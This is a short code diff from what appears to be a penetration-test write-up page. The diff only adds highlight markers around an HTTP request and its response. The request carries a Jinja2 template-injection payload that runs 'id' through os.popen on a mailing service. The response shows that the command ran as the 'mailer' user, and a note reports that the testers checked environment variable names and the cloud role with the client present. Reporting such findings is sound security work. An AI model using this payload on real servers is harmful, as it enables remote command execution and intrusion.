@@ -42,7 +42,7 @@ Host: app.mailing.example
 Authorization: Bearer <trial account>
 Content-Type: application/json
 
-{"subject":"Probe","body":"Hello {{ cycler.__init__.__globals__.os.popen('id').read() }}"}
+{"subject":"Probe","body":"Hello {-{{ cycler.__init__.__globals__.os.popen('id').read() }}-}"}
 `,
     ),
     response: code(
@@ -52,7 +52,7 @@ Content-Type: application/json
 HTTP/1.1 200 OK
 Content-Type: application/json
 
-{"html":"Hello uid=10001(mailer) gid=10001(mailer) groups=10001(mailer)\\n"}
+{"html":"Hello {+uid=10001(mailer) gid=10001(mailer) groups=10001(mailer)+}\\n"}
 `,
     ),
     note: '`id` was the only command we ran before we called the client. With the client on the line we ran two more: the names of environment variables without values, and the identity of the cloud role.',
